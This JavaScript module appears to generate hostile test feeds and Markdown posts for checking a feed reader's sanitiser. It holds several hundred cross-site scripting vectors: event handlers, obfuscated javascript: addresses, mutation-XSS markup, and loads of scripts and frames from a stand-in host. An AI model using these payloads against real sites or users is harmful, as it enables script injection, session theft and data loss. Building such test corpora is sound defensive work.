// Ways in which text of others would run in a reader's browser, after the classes of the public lists (filter evasion by event
// handlers, addresses, encodings, namespaces, mutation, broken markup). Each calls BOOM, or asks EVIL for something. Written here,
// from a table; `main.mjs` proves on bare documents which of them work.

/** Elements whose handler fires by itself or by a touch of the pointer. */
const HANDLERS = [
    ['img src=x', 'onerror'], ['img src=x', 'ONERROR'], ['img/src=x', 'onerror'], ['image src=x', 'onerror'], ['video src=x', 'onerror'],
    ['audio src=x', 'onerror'], ['video><source src=x', 'onerror'], ['img srcset=x', 'onerror'], ['picture><source srcset=x><img', 'onerror'],
    ['input type=image src=x', 'onerror'], ['link rel=stylesheet href=x', 'onerror'], ['script src=x', 'onerror'], ['object data=x', 'onerror'],
    ['embed src=x', 'onload'], ['iframe', 'onload'], ['iframe src=about:blank', 'onload'], ['body', 'onload'], ['svg', 'onload'],
    ['svg><g', 'onload'], ['style', 'onload'], ['input autofocus', 'onfocus'], ['select autofocus', 'onfocus'],
    ['textarea autofocus', 'onfocus'], ['button autofocus', 'onfocus'], ['a href=#x autofocus', 'onfocus'], ['p tabindex=0 autofocus', 'onfocusin'],
    ['details open', 'ontoggle'], ['p contenteditable autofocus', 'onfocus'], ['p', 'onmouseover'], ['p', 'onclick'],
    ['p', 'onpointerenter'], ['a href=http://ok.example/', 'onclick'], ['b', 'onauxclick'], ['marquee', 'onstart'], ['body', 'onpageshow'],
    ['body', 'onhashchange'], ['body', 'onscroll'], ['p', 'oncopy'], ['p', 'onwheel'], ['p', 'onbeforematch'], ['xss', 'onpointerrawupdate'],
    ['table background=x', 'onclick'], ['math', 'onclick'], ['math><mi', 'onmouseover'], ['svg><text', 'onclick'], ['form', 'onsubmit'],
    ['p style=animation-name:x', 'onanimationend'], ['p', 'ontransitionend'], ['track src=x', 'onerror'], ['p', 'onfocusin'],
].map(([element, handler], n) => `<${element} ${handler}=${["BOOM", "'BOOM'", '"BOOM"', '\tBOOM '][n % 4]}>words${n}</p>`);

/** `javascript:` as a browser still reads it. */
export const ADDRESSES = [
    'javascript:BOOM', 'JavaScript:BOOM', 'JAVASCRIPT:BOOM//', ' javascript:BOOM', '\u0001javascript:BOOM', '\tjavascript:BOOM', '\njavascript:BOOM',
    'java\tscript:BOOM', 'java\nscript:BOOM', 'java\rscript:BOOM', 'javascript\t:BOOM', 'javascript:\u2028BOOM', 'javascript://ok.example/%0ABOOM',
    'javascript://%250aBOOM', "javascript:'<b>',BOOM", 'javascript:void(BOOM)', 'vbscript:BOOM', 'livescript:BOOM', 'mocha:BOOM',
    'data:text/html,<script>BOOM</script>', 'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuYm9vbSgiYjY0Iik8L3NjcmlwdD4=',
    'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="BOOM"/>', 'data:application/xhtml+xml,<x:script xmlns:x="http://www.w3.org/1999/xhtml">BOOM</x:script>',
    'feed:javascript:BOOM', 'view-source:javascript:BOOM', 'jar:javascript:BOOM', 'blob:javascript:BOOM', 'file:///etc/passwd', 'filesystem:javascript:BOOM',
    'about:srcdoc#BOOM', 'intent://EVIL#Intent;scheme=http;end', '//EVIL/\u0000javascript:BOOM', 'http://ok.example/"onmouseover="BOOM', "http://ok.example/'onmouseover='BOOM",
    'http://ok.example/><script>BOOM</script>', 'http://ok.example/\n<img src=x onerror=BOOM>', 'javascript\u0000:BOOM', '\u00a0javascript:BOOM',
];

/** As an attribute's value, with the characters that would end it written as entities, in one of several ways. */
const written = (address, n) =>
    [
        (text) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;'),
        (text) => [...text].map((c) => `&#${c.codePointAt(0)};`).join(''),
        (text) => [...text].map((c) => `&#x${c.codePointAt(0).toString(16)}`).join(';').concat(';'),
        (text) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll(':', '&colon;').replaceAll('\t', '&Tab;').replaceAll('\n', '&NewLine;').replaceAll('(', '&lpar;'),
        (text) => [...text].map((c) => `&#${String(c.codePointAt(0)).padStart(7, '0')};`).join(''),
    ][n % 5](address);

/** Elements that take an address. */
const CARRIERS = [
    (url) => `<a href="${url}">go</a>`, (url) => `<iframe src="${url}"></iframe>`, (url) => `<object data="${url}"></object>`,
    (url) => `<embed src="${url}">`, (url) => `<form action="${url}"><input type=submit></form>`, (url) => `<svg><a xlink:href="${url}"><text y=20>go</text></a></svg>`,
    (url) => `<math><mi xlink:href="${url}">go</mi></math>`, (url) => `<area shape=rect coords=0,0,9,9 href="${url}">`, (url) => `<base href="${url}"><a href="#">go</a>`,
    (url) => `<button form=none formaction="${url}">go</button>`, (url) => `<frameset><frame src="${url}"></frameset>`, (url) => `<svg><animate attributeName=href values="${url}"/></svg>`,
];
const IN_CARRIERS = [
    ...ADDRESSES.map((address, n) => `<a href="${written(address, n)}">go</a>`),
    ...CARRIERS.slice(1).map((carrier, n) => carrier(written(ADDRESSES[[0, 7, 12][n % 3]], n))),
];

const REST = [
    // Scripts, whole and broken.
    '<script>BOOM</script>', '<SCRIPT>BOOM</SCRIPT >', '<script src=http://EVIL/x.js></script>', '<script/src=//EVIL/x.js></script>', '<scr<script>ipt>BOOM</scr</script>ipt>',
    '<script\n>BOOM</script>', '<script type=module>BOOM</script>', '<script type="text/javascript;charset=x">BOOM</script>', '<svg><script>BOOM</script></svg>', '<svg><script href=data:,BOOM></script></svg>',
    '<svg><script>BO&#79;M</script></svg>', '<math><script>BOOM</script></math>', '<script>BOOM', '<<script>BOOM//<</script>', '<script>/*<!--*/BOOM/*--><script*/</script>', '<script defer>BOOM</script>',
    // Out of where text stands.
    '</title><script>BOOM</script>', '</textarea><script>BOOM</script>', '</style><script>BOOM</script>', '--><script>BOOM</script>', ']]><script>BOOM</script>', '"><script>BOOM</script>', "'><script>BOOM</script>",
    '" autofocus onfocus="BOOM', '" onmouseover="BOOM', "' onmouseover='BOOM", '</p></div></article></main><script>BOOM</script>', '</script><script>BOOM</script>', '</noscript><script>BOOM</script>', '</a><a href=javascript:BOOM>go</a>',
    '</description></item></channel></rss><script>BOOM</script>', '</content></entry></feed><script xmlns="http://www.w3.org/1999/xhtml">BOOM</script>', '<![CDATA[<script>BOOM</script>]]>', '<x:script xmlns:x="http://www.w3.org/1999/xhtml">BOOM</x:script>',
    '&lt;script&gt;BOOM&lt;/script&gt;', '&amp;lt;img src=x onerror=BOOM&amp;gt;', '&lt;img src=x onerror=BOOM&gt;',
    // Other documents within.
    '<iframe srcdoc="<script>parent.BOOM</script>"></iframe>', '<iframe srcdoc="&lt;img src=x onerror=parent.BOOM&gt;"></iframe>', '<iframe src=http://EVIL/frame.html></iframe>', '<object data=http://EVIL/object.html></object>', '<embed src=http://EVIL/embed.html>',
    '<object type=image/svg+xml data="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\'><script>parent.BOOM</script></svg>"></object>', '<portal src=http://EVIL/portal.html></portal>', '<fencedframe src=http://EVIL/f.html></fencedframe>',
    // Where the page would go, or what it would fetch.
    '<meta http-equiv=refresh content="0;url=http://EVIL/refresh">', '<meta http-equiv=refresh content="0;url=data:text/html,<script>BOOM</script>">', '<meta http-equiv="set-cookie" content="a=b">', '<base href=http://EVIL/>',
    '<link rel=stylesheet href=http://EVIL/style.css>', '<link rel=import href=http://EVIL/import.html>', '<link rel=prefetch href=http://EVIL/prefetch>', '<link rel=preload as=script href=http://EVIL/preload.js>', '<link rel=modulepreload href=http://EVIL/module.js>', '<link rel=manifest href=http://EVIL/manifest.json>',
    '<form action=http://EVIL/form><input name=q autofocus><button>go</button></form>', '<input type=submit formaction=javascript:BOOM form=x><form id=x></form>', '<a href=http://ok.example/ ping=http://EVIL/ping>go</a>', '<video poster=javascript:BOOM src=http://EVIL/v.mp4 autoplay></video>',
    '<audio src=http://EVIL/a.mp3 autoplay></audio>', '<track src=http://EVIL/t.vtt>', '<applet code=http://EVIL/x.class></applet>', '<bgsound src=http://EVIL/x.mid>',
    // Style.
    '<style>@import "http://EVIL/import.css";</style>', '<style>@font-face{font-family:x;src:url(http://EVIL/f.woff)}*{font-family:x!important}</style>', '<p style="position:fixed;inset:0;background:url(http://EVIL/b.png)">over all</p>', '<p style="width:expression(BOOM)">x</p>', '<p style="-moz-binding:url(http://EVIL/x.xml#x)">x</p>',
    '<style><img src="</style><img src=x onerror=BOOM>"></style>', '<style>body{display:none}</style>', '<div style="behavior:url(http://EVIL/x.htc)">x</div>',
    // Namespaces and mutation: harmless in one tree, not in the next.
    '<svg><style><img title="</style><img src=x onerror=BOOM>"></style></svg>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=BOOM&gt;">', '<math><mtext><mglyph><style><img src="</style><img src=x onerror=BOOM>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=BOOM>', '<svg></p><style><a id="</style><img src=x onerror=BOOM>">', '<noscript><p title="</noscript><img src=x onerror=BOOM>">', '<noembed><p title="</noembed><img src=x onerror=BOOM>">', '<noframes><p title="</noframes><img src=x onerror=BOOM>">',
    '<xmp><p title="</xmp><img src=x onerror=BOOM>">', '<iframe><p title="</iframe><img src=x onerror=BOOM>">', '<template><img src=x onerror=BOOM></template>', '<template shadowrootmode=open><img src=x onerror=BOOM></template>', '<textarea><p title="</textarea><img src=x onerror=BOOM>">',
    '<title><p title="</title><img src=x onerror=BOOM>">', '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=BOOM>">', '<math><annotation-xml encoding="text/html"><style><img src=x onerror=BOOM></style></annotation-xml></math>', '<svg><foreignObject><img src=x onerror=BOOM></foreignObject></svg>',
    '<svg><desc><img src=x onerror=BOOM></desc></svg>', '<svg><title><img src=x onerror=BOOM></title></svg>', '<math><mi><img src=x onerror=BOOM></mi></math>', '<listing>&lt;img src=x onerror=BOOM&gt;</listing>', '<plaintext><img src=x onerror=BOOM>', '<p id="`><img src=x onerror=BOOM>`">x</p>',
    '<a id=x><a id=x name=y href=javascript:BOOM>go</a>', '<table><td><a href=javascript:BOOM>go</a><form><td></form>', '<b><p><i></b><img src=x onerror=BOOM></i></p>', '<option><style></option></select><img src=x onerror=BOOM></style>',
    '<!--><img src=x onerror=BOOM>-->', '<!--[if IE]><script>BOOM</script><![endif]-->', '<!-- --!><img src=x onerror=BOOM> -->', '<!DOCTYPE x [<!ENTITY e "<script>BOOM</script>">]>&e;', '<?xml-stylesheet href="javascript:BOOM"?><p>x</p>', '<?php echo "<script>BOOM</script>"?>', '<%<img src=x onerror=BOOM>%>', '<//p><img src=x onerror=BOOM>',
    // SVG of its own.
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><a href=\'javascript:BOOM\'><rect width=9 height=9 /></a></svg>#x"/></svg>', '<svg><set attributeName=onmouseover to=BOOM></svg>', '<svg><a><animate attributeName=href to=javascript:BOOM /><text y=20>go</text></a></svg>', '<svg><animate onbegin=BOOM attributeName=x dur=1s></svg>', '<svg><image href=x onerror=BOOM></svg>',
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>BOOM</handler></svg>', '<svg><foreignObject><iframe srcdoc="<script>parent.BOOM</script>"></iframe></foreignObject></svg>', '<svg><feImage><set attributeName=href to=http://EVIL/i.svg></feImage></svg>',
    // Broken attributes and bytes.
    '<img src="x` `onerror=BOOM"` `onerror=BOOM>', '<img """><script>BOOM</script>">', '<img src=x onerror\u000c=BOOM>', '<img src=x onerror\u0000=BOOM>', '<img \u0000src=x onerror=BOOM>', '<img/x="/onerror="y"src=x onerror=BOOM>', '<img src=x:x onerror="&#66;OOM">', '<img src=x onerror=BOOM//', '<a\u000bhref=javascript:BOOM>go</a>', '<\u0000script>BOOM</script>',
    '\ufeff<script>BOOM</script>', '+ADw-script+AD4-BOOM+ADw-/script+AD4-', '\u00bcscript\u00beBOOM\u00bc/script\u00be', '<img src=x onerror=BOOM', '<a href="javascript&colon;BOOM">go</a>', '<a href="jav&#x0A;ascript:BOOM">go</a>', '<a href=" &#14; javascript:BOOM">go</a>',
];

const filled = (text, n) => text.replaceAll('BOOM', `boom(${n})`).replaceAll('EVIL', 'evil.test');

/** All of them: `{n, html, address}`; the address is one of `ADDRESSES`. */
export const VECTORS = [...HANDLERS, ...IN_CARRIERS, ...REST].map((text, n) => ({
    n,
    html: filled(text, n),
    address: filled(ADDRESSES[n % ADDRESSES.length], n),
}));

const escape = (text) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');
/** XML has no other control characters. */
const xml = (text) => text.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/g, '');
const cdata = (text) => `<![CDATA[${text.replaceAll(']]>', ']]]]><![CDATA[>')}]]>`;

/** Feeds in which every field of an entry is one of them, by path and type. */
export function feeds({ at, now }) {
    const time = (n) => new Date(now - 3_600_000 - n * 1000);
    // Most entries keep an address of their own, so that they have a source; every third has a hostile one.
    const link = (kind, { n, address }) => (n % 3 === 2 ? address : at('hostile', `/${kind}/${n}`));
    const rssItem = (vector) => {
        const { n, html, address } = vector;
        const text = n % 2 ? escape : cdata;
        return `<item><title>${text(n % 4 < 2 ? html : escape(html))}</title><link>${escape(link('rss', vector))}</link><guid isPermaLink="false">r${n}</guid><pubDate>${time(n).toUTCString()}</pubDate>` +
            `<author>${escape(html)}</author><dc:creator>${escape(html)}</dc:creator><category domain="${escape(html)}">${escape(html)}</category><comments>${escape(address)}</comments>` +
            `<enclosure url="${escape(address)}" type="${escape(html)}" length="1"/><source url="${escape(address)}">${escape(html)}</source><media:content url="${escape(address)}" medium="image"/>` +
            `<description>${escape(html)}</description><content:encoded>${text(`<p>${n}</p>${html}`)}</content:encoded></item>`;
    };
    const rss = `<?xml version="1.0" encoding="utf-8"?><rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:media="http://search.yahoo.com/mrss/"><channel><title>${escape(VECTORS[0].html)}</title><link>${at('hostile', '/')}</link><description>${escape(VECTORS[1].html)}</description>${VECTORS.map(rssItem).join('')}</channel></rss>`;
    const atomEntry = (vector) => {
        const { n, html, address } = vector;
        const inline = `<div xmlns="http://www.w3.org/1999/xhtml"><script>boom(${n})</script><img src="x" onerror="boom(${n})"/><a href="${escape(address)}">go</a><iframe srcdoc="${escape(html)}"/><svg xmlns="http://www.w3.org/2000/svg" onload="boom(${n})"><script>boom(${n})</script></svg></div>`;
        const content = n % 4 === 3 ? `<content type="xhtml">${inline}</content>` : `<content type="html" xml:base="${escape(address)}">${escape(html)}</content>`;
        return `<entry><id>urn:a:${n}</id><title type="${['html', 'text'][n % 2]}">${escape(html)}</title><updated>${time(n).toISOString()}</updated><link href="${escape(link('atom', vector))}" title="${escape(html)}"/>` +
            `<link rel="enclosure" type="${escape(html)}" href="${escape(address)}"/><link rel="via" href="${escape(address)}"/><author><name>${escape(html)}</name><uri>${escape(address)}</uri><email>${escape(html)}</email></author>` +
            `<category term="${escape(html)}" label="${escape(html)}"/><summary type="html">${escape(html)}</summary>${content}</entry>`;
    };
    const atom = `<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom"><id>urn:a</id><title type="html">${escape(VECTORS[2].html)}</title><updated>${time(0).toISOString()}</updated>${VECTORS.map(atomEntry).join('')}</feed>`;
    const items = VECTORS.map((vector) => {
        const { n, html, address } = vector;
        return {
            id: `j${n}`, url: link('json', vector), external_url: n % 5 ? undefined : address, title: html, content_html: html, summary: html, image: address, banner_image: address, date_published: time(n).toISOString(),
            authors: [{ name: html, url: address, avatar: address }], tags: n % 8 ? [] : [html], attachments: [{ url: address, mime_type: html, title: html }], language: html,
        };
    });
    const json = JSON.stringify({ version: 'https://jsonfeed.org/version/1.1', title: VECTORS[3].html, home_page_url: ADDRESSES[0], items });
    return [
        { path: '/hostile.xml', type: 'application/rss+xml; charset=utf-8', body: xml(rss) },
        { path: '/hostile.atom', type: 'application/atom+xml; charset=utf-8', body: xml(atom) },
        { path: '/hostile.json', type: 'application/feed+json', body: json },
    ];
}

/** Posts in which every place of Markdown holds one of them: `{path, text}`. */
export function posts({ at, now }) {
    const quoted = (text) => JSON.stringify(text.replace(/[\u0000-\u001f\u007f-\u009f\ufeff]/g, ' '));
    const line = (text) => text.replace(/\s+/g, ' ');
    const size = 50;
    return Array.from({ length: Math.ceil(VECTORS.length / size) }, (_, part) => {
        const items = VECTORS.slice(part * size, (part + 1) * size).map(({ n, html, address }) =>
            [
                `### ${n % 2 ? line(html) : `Item ${n} [go](<${line(address)}>)`} ${n}`,
                `Text ${line(html)} text [go](${line(address).replaceAll(' ', '%20')} "${line(html).replaceAll('"', "'")}") and <${line(address)}> and ![${line(html)}](<${line(address)}>) and [ref${n}].`,
                html, `\`\`\`${line(html).replaceAll('`', '')}\n${html}\n\`\`\``, `| a | ${line(html).replaceAll('|', '')} |\n| - | - |\n| ${line(html).replaceAll('|', '')} | b |`, `[ref${n}]: <${line(address)}> '${line(html).replaceAll("'", '"')}'`,
                `> **[Source: ${line(html).replaceAll(']', '')}](${n % 2 ? `<${line(address)}>` : at('hostile', `/post/${n}`)})**`, `> Editor: ${line(html)}`, '',
            ].join('\n\n'),
        );
        const head = VECTORS[(part * 37) % VECTORS.length];
        const tags = VECTORS.filter(({ n }) => n % 40 === part).map(({ html }) => quoted(html)).join(', ');
        const date = new Date(now - (part + 1) * 86_400_000).toISOString().slice(0, 10);
        return {
            path: `hostile-${part}.md`,
            text: `---\ntitle: ${quoted(`#${part + 1} ${head.html}</title><script>boom(9)</script>`)}\ndate: '${date} 20:00:00'\nauthor: ${quoted(head.html)}\ntags: [${tags}]\nlargepic: ${quoted(head.address)}\npermalink: ${quoted(head.address)}\n---\n\n${items.join('\n')}\n`,
        };
    });
}
